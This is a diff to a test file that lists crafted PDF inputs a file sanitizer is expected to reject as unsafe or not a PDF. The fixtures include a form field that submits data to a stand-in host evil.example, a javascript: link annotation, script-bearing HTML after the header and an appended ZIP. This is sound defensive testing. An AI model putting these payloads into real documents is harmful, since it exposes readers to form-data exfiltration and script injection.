@@ -245,6 +245,9 @@ BYPASSES: dict[str, tuple[bytes, str]] = {
         build_pdf({4: b"<< /FT /Btn /T (x) /Rect [0 0 10 10] /Subtype /Widget /P 3 0 R"
                       b" /A << /S /SubmitForm /F (https://evil.example/collect) >> >>"},
                   catalog=b"/AcroForm << /Fields [4 0 R] >>", page=b"/Annots [4 0 R]"), "unsafe_pdf"),
+    "javascript: link": (
+        build_pdf({4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10]"
+                      b" /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>"}, page=b"/Annots [4 0 R]"), "unsafe_pdf"),
     "HTML after the header": (build_pdf(after_header=b"<html><body><script>alert(1)</script></body></html>\n"),
                               "not_a_pdf"),
     "ZIP appended after %%EOF": (build_pdf() + _zip_bytes(), "not_a_pdf"),
